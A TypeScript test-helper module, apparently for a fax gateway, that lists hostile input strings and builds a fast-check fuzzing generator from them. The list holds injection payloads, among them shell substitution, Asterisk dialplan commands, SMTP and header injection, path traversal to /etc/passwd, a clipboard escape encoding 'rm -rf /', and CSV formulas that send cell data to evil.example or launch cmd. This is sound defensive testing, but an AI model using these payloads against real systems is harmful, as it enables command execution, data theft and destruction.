import fc from 'fast-check'

/**
 * What a stranger's fax machine, a caller's telephone company, or a server may put where a number, a name, a station ID or an answer is
 * expected. Each is aimed at one of the places that such a text reaches.
 */
export const HOSTILE_STRINGS: readonly [name: string, text: string][] = [
  ['line break (CR LF)', '0478\r\nBcc: victim@example.net'],
  ['bare LF', '0478\nX-Injected: 1'],
  ['bare CR', '0478\rSTOR evil'],
  ['end of a header', '\r\n\r\n<script>alert(1)</script>'],
  ['folded header', 'a\r\n b\r\n\tc'],
  ['end of a mail (SMTP)', '\r\n.\r\nMAIL FROM:<evil@example.net>\r\n'],
  ['NUL', '0478\0.pdf'],
  ['every control character', String.fromCharCode(...Array.from({ length: 32 }, (_, code) => code), 127)],
  ['C1 controls (8-bit CSI)', '\u0085\u009b31m\u009d0;title\u009c'],
  ['ANSI escapes', '\u001b[2J\u001b[1;1H\u001b[31mroot\u001b[0m'],
  ['terminal title and clipboard', '\u001b]0;owned\u0007\u001b]52;c;cm0gLXJmIC8=\u0007'],
  ['backspaces over what stands before', `${'\b'.repeat(30)}0800 000000`],
  ['single quotes', "'; DROP TABLE faxes; --"],
  ['double quotes', '" onload="x'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's and Asterisk's variables, not ours
  ['shell substitution', '$(id)`id`${IFS}&&id;id|id>x'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above
  ['dialplan', '${SHELL(id)},${EVAL(${CALLERID(num)})}'],
  ['path upwards', '../../../etc/passwd'],
  ['path upwards, Windows', '..\\..\\windows\\system32'],
  ['absolute path', '/etc/cron.d/x'],
  ['URL-encoded path', '%2e%2e%2fetc%2fpasswd'],
  ['only dots', '..'],
  ['leading dash', '-oProxyCommand=id'],
  ['leading dashes', '--help'],
  ['leading plus and dash', '+-+-rf'],
  ['printf and template', '%s%n%(dstnum)s%%%(password)s'],
  ['encoded word (RFC 2047)', '=?utf-8?Q?a=0D=0ABcc:_victim@example.net?='],
  ['another address', 'a <victim@example.net>, b@example.net'],
  ['XML', ']]><x a="&evil;">&#x0;</rdf:RDF><?xpacket end="w"?>'],
  ['PDF', ') /JS (app.alert(1)) >> endobj stream'],
  ['JSON', '","outcome":"delivered","x":"\\u0000'],
  ['log line', '2026-11-25 09:00:00 fax delivered\n2026-11-25 09:00:01 all is well'],
  ['CSV formula', '=HYPERLINK("http://evil.example/?"&A1,"0478")'],
  ['CSV formula, others', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['bidirectional controls', '\u202e9988776655\u202c\u2066\u2069\u200f\u061c'],
  ['zero-width characters', '04\u200b78\ufeff12\u00ad'],
  ['line separators of Unicode', 'a\u2028b\u2029c'],
  ['lone surrogates', '\ud800x\udfff'],
  ['noncharacters', '\ufffe\uffff\u{1ffff}'],
  ['invalid UTF-8, as Latin-1', Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0x80]).toString('latin1')],
  ['invalid UTF-8, decoded', Buffer.from([0x41, 0xc3, 0x28, 0xf0, 0x9f]).toString('utf8')],
  ['combining marks', `e${'\u0301'.repeat(2_000)}`],
  ['10 KB', '0'.repeat(10_240)],
  ['10 KB of four-byte characters', '📠'.repeat(2_560)],
  ['prototype', '__proto__'],
  ['empty', ''],
  ['blanks', ' \t '],
]

/** Texts that nobody thought of: those above, cut, glued together, and mixed with any characters at all. */
export const anyHostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...HOSTILE_STRINGS.map(([, text]) => text.slice(0, 200))),
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.constantFrom(
        '\r',
        '\n',
        '\0',
        '"',
        "'",
        '\\',
        '/',
        '%',
        '<',
        '>',
        '&',
        '(',
        ')',
        '=?',
        '\u001b[',
        '\u202e',
      ),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((pieces) => pieces.join(''))
